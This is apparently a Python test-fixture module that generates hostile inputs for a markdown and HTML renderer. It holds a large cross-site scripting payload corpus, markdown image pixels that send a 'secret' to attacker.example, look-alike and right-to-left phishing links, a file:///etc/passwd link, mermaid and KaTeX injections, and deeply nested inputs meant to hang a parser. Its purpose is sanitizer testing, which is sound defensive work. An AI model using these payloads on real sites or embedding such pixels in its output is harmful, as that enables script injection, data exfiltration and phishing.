# ruff: noqa: E501, RUF001 -- hostile texts are kept on one line each, and look-alike letters are among them.
"""Texts that try to run or to reach out, made by rules: each is a product of few parts, so that none is left out by accident.

A script that runs would set `window.hit`; a request that leaves would go to ATTACKER.
"""

from __future__ import annotations

from itertools import product
from urllib.parse import quote

ATTACKER = "attacker.example"
RUN = "window.hit=1"
OUT = f"https://{ATTACKER}"

_ELEMENTS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "details open",
    "input autofocus",
    "iframe src=x",
    "object data=x",
    "marquee",
    "select autofocus",
    "style",
    "form id=x",
)
_EVENTS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter")
_URLS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f" javascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#x6A;avascript&#x3A;{RUN}",
    f"java&Tab;script:{RUN}",
    f"java&NewLine;script:{RUN}",
    f"javascript:/*{OUT}*/{RUN}",
    f"javascript://{ATTACKER}/%0a{RUN}",
    f"javascript%3A{RUN}",
    f"\u202ejavascript:{RUN}",
    f"vbscript:{RUN}",
    f"livescript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"data:text/html;base64,{quote('PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=')}",
    f"data:image/svg+xml,<svg onload='{RUN}'/>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5oaXQ9MSIvPg==",
    f"data:application/javascript,{RUN}",
    f"blob:{OUT}/x",
    f"filesystem:{OUT}/x",
    f"view-source:javascript:{RUN}",
    f"jar:{OUT}/x!/y",
    "file:///etc/passwd",
    f"//{ATTACKER}/x",
    f"\\\\{ATTACKER}\\x",
    f"/\\{ATTACKER}/x",
)
_MARKUP = (
    f"<script>{RUN}</script>",
    f"<script src={OUT}/x.js></script>",
    f"<script type=module>{RUN}</script>",
    f"<SCRIPT\n>{RUN}</SCRIPT\n>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</p><script>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"</textarea></title></style><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[><script>{RUN}</script>]]>",
    f"<?xml version='1.0'?><script>{RUN}</script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<math href='javascript:{RUN}'>click</math>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='{OUT}'></iframe>",
    f"<object data='{OUT}/x.swf'></object>",
    f"<embed src='{OUT}/x.swf'>",
    f"<link rel=stylesheet href='{OUT}/x.css'>",
    f"<link rel=prefetch href='{OUT}/x'>",
    f"<link rel=dns-prefetch href='//{ATTACKER}'>",
    f"<style>@import '{OUT}/x.css'</style>",
    f"<style>*{{background:url({OUT}/x)}}</style>",
    f"<div style='background:url({OUT}/x)'>",
    f"<meta http-equiv=refresh content='0;url={OUT}'>",
    f"<base href='{OUT}/'>",
    f"<form action='{OUT}'><input name=password><button>Sign in</button></form>",
    f"<button formaction='javascript:{RUN}'>x</button>",
    f"<img src='{OUT}/x.png'>",
    f"<img srcset='{OUT}/x.png 1x'>",
    f"<picture><source srcset='{OUT}/x'><img></picture>",
    f"<video poster='{OUT}/x.png'></video>",
    f"<video><source src='{OUT}/x.mp4' onerror={RUN}></video>",
    f"<track src='{OUT}/x.vtt'>",
    f"<a href='{OUT}' ping='{OUT}/ping'>x</a>",
    f"<table background='{OUT}/x'>",
    f"<input type=image src='{OUT}/x'>",
    f"<isindex action='javascript:{RUN}'>",
    f"<x contenteditable onblur={RUN}>",
    f"<a id=location href='{OUT}'>x</a><form name=body><input name=innerHTML></form>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"<%={RUN}%>",
    f"#{{{RUN}}}",
    f"`-{RUN}-`",
    f"';{RUN};//",
    f'";{RUN};//',
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"＜script＞{RUN}＜/script＞",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\ufeff<script>{RUN}</script>",
    f"<scr\0ipt>{RUN}</scr\0ipt>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=`x`onerror={RUN}>",
    f"<img src=x onerror\x0b={RUN}>",
    f"<IMG SRC=x OnErRoR={RUN}>",
    "<svg/onload=&#119;indow.hit=1>",
    "<img src=x:x onerror=eval(atob('d2luZG93LmhpdD0x'))>",
    f"<br onload={RUN}>",
    f"<br/ onload={RUN}>",
)


def scripts() -> list[str]:
    """Cross-site scripting in HTML, in attributes, in addresses."""
    handlers = [f"<{element} {event}={quote_}{RUN}{quote_}>" for element, event, quote_ in product(_ELEMENTS, _EVENTS, ("", '"'))]
    links = [
        shape.format(url) for url, shape in product(_URLS, ("<a href='{}'>x</a>", "[x]({})", "![x]({})", "<{}>", "[x]: {}\n\n[x] ![x]"))
    ]
    return [*_MARKUP, *handlers, *links]


_PICTURE = f"![pixel]({OUT}/x.png?q=secret)"
_TRICKS = [
    _PICTURE,
    f"[{_PICTURE}]({OUT})",
    f"![![{_PICTURE}]({OUT}/1)]({OUT}/2)",
    f"![pixel][a]\n\n[a]: {OUT}/x.png",
    f"![a]\n\n[a]: <{OUT}/x.png> 'title'",
    f"![pixel](//{ATTACKER}/x.png)",
    f"![pixel](\\\\{ATTACKER}/x.png)",
    f"![pixel](/\\{ATTACKER}/x.png)",
    f"![pixel](HTTPS://{ATTACKER}/x.png)",
    f"![pixel](ftp://{ATTACKER}/x.png)",
    f"![pixel](https&colon;//{ATTACKER}/x.png)",
    f"![pixel](<{OUT}/a b.png>)",
    f"![pixel]({OUT}/x.png =100x100)",
    f'![pixel]({OUT}/x.png "onerror={RUN}")',
    f"!\\[pixel]({OUT}/x.png)",
    f"| a |\n| - |\n| {_PICTURE} |",
    f"| a |\n| - |\n| <img src={OUT}/x.png> |",
    f"| a |\n| - |\n| <br onload={RUN}> |",
    f"| a |\n| - |\n| [x](javascript:{RUN}) |",
    f"x[^1]\n\n[^1]: {_PICTURE}",
    f"x[^1]\n\n[^1]: [x](javascript:{RUN})",
    f"x[^<script>{RUN}</script>]\n\n[^<script>{RUN}</script>]: y",
    f"x[^__proto__] [^constructor]\n\n[^__proto__]: {_PICTURE}\n\n[^constructor]: y",
    f"[__proto__] [constructor] [toString]\n\n[__proto__]: {OUT}\n[constructor]: javascript:{RUN}\n",
    f"[https://bank.example]({OUT})",
    f"[bank.example]({OUT})",
    f"[x](https://bank.example@{ATTACKER})",
    f"[x](https://bank.example:secret@{ATTACKER})",
    f"[x](https://bank.example%2f@{ATTACKER})",
    f"[x](https:\\\\{ATTACKER})",
    f"[x](https:/{ATTACKER})",
    f"[x](https:{ATTACKER})",
    "[x](https://аррle.com)",
    "[x](https://xn--80ak6aa92e.com)",
    "[x](https://bank.example。attacker.example)",
    f"[\u202emoc.knab//:sptth]({OUT})",
    f"[a\u200bb\u2066c]({OUT})",
    f"[x](mailto:a@{ATTACKER}?body=secret&attach=/etc/passwd)",
    f"<{OUT}>",
    f"<javascript:{RUN}>",
    f"<data:text/html,<script>{RUN}</script>>",
    f"{OUT} www.{ATTACKER} a@{ATTACKER} xmpp:a@{ATTACKER}",
    f"[x]({OUT}\n'title')",
    f"[x](javascript:{RUN} '{OUT}')",
    f"[x](  javascript:{RUN}  )",
    f"[x](<javascript:{RUN}>)",
    f"[x](java&#x0A;script:{RUN})",
    f"[x][y]\n\n[y]: java\\script:{RUN}",
    f"[x][y]\n\n[y]: javascript&#58;{RUN}",
    f"[a [b](javascript:{RUN}) c]({OUT})",
    f"```<img/src=x/onerror={RUN}>\ncode\n```",
    f"```js onclick={RUN}\ncode\n```",
    f"```../../{ATTACKER}\ncode\n```",
    f"```__proto__\n<script>{RUN}</script>\n```",
    f"```html\n<script>{RUN}</script><img src={OUT}/x>\n```",
    f"```\n</code></pre><script>{RUN}</script>\n```",
    f"`</code><script>{RUN}</script>`",
    f"# <script>{RUN}</script>",
    f"> <iframe src={OUT}>\n> {_PICTURE}",
    f"- [x] <script>{RUN}</script>\n- [ ] {_PICTURE}",
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"$\\url{{{OUT}}}$",
    f"$\\includegraphics{{{OUT}/x.png}}$",
    f"$\\htmlStyle{{background:url({OUT}/x)}}{{x}}$",
    f"$\\htmlData{{x=1, onclick={RUN}}}{{x}}$ $\\htmlId{{root}}{{x}}$ $\\htmlClass{{x}}{{y}}$",
    f"$\\text{{<img src=x onerror={RUN}>}}$ $\\unknown$ $\\color{{red;background:url({OUT})}}x$",
    "$\\pmb{x} \\boxed{\\fcolorbox{red}{blue}{y}} \\cancel{z} \\phase{x} \\overbrace{x} \\sqrt{x} \\xrightarrow{y} \\rule{1em}{2em} \\kern9999em \\textcolor{red}{x}$",
    "$$\n\\begin{array}{|c|c|}\\hline a & b \\\\ \\hline\\end{array} \\tag{1}\n$$",
    "$$\n\\def\\a{\\a\\a}\\a\n$$",
    "$" + "{" * 2000 + "$",
    "$$\n" + "\\frac{" * 500 + "\n$$",
    "\\[ \\underline{x} \\] and \\(\\widehat{xyz}\\)",
    f"```mermaid\ngraph TD\n  A[<img src=x onerror={RUN}>] --> B\n  click A 'javascript:{RUN}'\n```",
    f"```mermaid\n%%{{init: {{'securityLevel': 'loose', 'themeCSS': '@import \"{OUT}/x.css\"'}}}}%%\ngraph TD\n  A --> B\n```",
    f'```mermaid\nflowchart TD\n  A@{{ img: "{OUT}/x.png", w: 60, h: 60 }}\n```',
    f"```mermaid\ngraph TD\n  A --> B\n  style A fill:url({OUT}/x)\n```",
    f'```mermaid\ngraph TD\n  A --> B\n  click A href "{OUT}" _blank\n```',
    f"```mermaid\n---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n---\ngraph TD\n  A[\"<iframe src='{OUT}'></iframe>\"] --> B\n```",
    "```mermaid\nnonsense\n```",
    ">" * 10_000 + " x",
    "[" * 10_000 + "x" + "]" * 10_000,
    "*a _b " * 5_000,
    "- " * 5_000 + "x",
    "| a " * 2_000 + "|\n" + "| - " * 2_000 + "|\n",
    f"\u2028<script>{RUN}</script>\u2029",
    f"<details><summary>x</summary>\n\n{_PICTURE}\n\n</details>",
    f"<!-- {_PICTURE} -->\n<a\nhref='javascript:{RUN}'>x</a>",
    f"&lt;img src=x onerror={RUN}&gt; &#60;script&#62;{RUN}&#60;/script&#62;",
]


def tricks() -> list[str]:
    """Markdown that leads where its reader would not go, or that is built to confuse or to hold up the page."""
    return _TRICKS


def fetching_diagrams() -> list[str]:
    """Mermaid in whose drawing a style, a shape or a tag would load something from outside, spelled in every way that style sheets allow."""
    ways = [f"url({OUT}/x)", f"#117;rl({OUT}/x)", f"u\\72l({OUT}/x)", f"\\000075rl({OUT}/x)", f'image-set("{OUT}/y" 1x)']
    styles = [template.replace("WAY", way) for way in ways for template in _STYLED]
    return [
        *styles,
        f'C4Context\n  Person(a, "A")\n  UpdateElementStyle(a, $bgColor="url({OUT}/x)", $sprite="{OUT}/s.png")',
        f'graph TD\n  A --> B\n  click A href "{OUT}" _blank',
        f'flowchart TD\n  A@{{ img: "{OUT}/x.png", w: 60, h: 60 }}',
        f'graph TD\n  A["<img src={OUT}/i.png> words"] --> B',
        f'graph TD\n  A["<style>*{{background:url({OUT})}}</style>"] --> B',
        f'%%{{init: {{"themeCSS": "*{{background:url({OUT}/x)}}"}}}}%%\ngraph TD\n  A --> B',
        f'%%{{init: {{"theme": "base", "themeVariables": {{"primaryColor": "url({OUT}/z)"}}}}}}%%\ngraph TD\n  A --> B',
        f'gantt\n  dateFormat YYYY-MM-DD\n  section A\n  task :a1, 2024-01-01, 3d\n  click a1 href "{OUT}/"',
    ]


_STYLED = (
    "graph TD\n  A --> B\n  style A fill:WAY",
    "graph TD\n  A --> B\n  classDef k fill:WAY,stroke:red\n  class A k",
    "sequenceDiagram\n  box WAY A group\n  participant A\n  end\n  A->>A: x",
    "sequenceDiagram\n  rect WAY\n  A->>A: x\n  end",
)
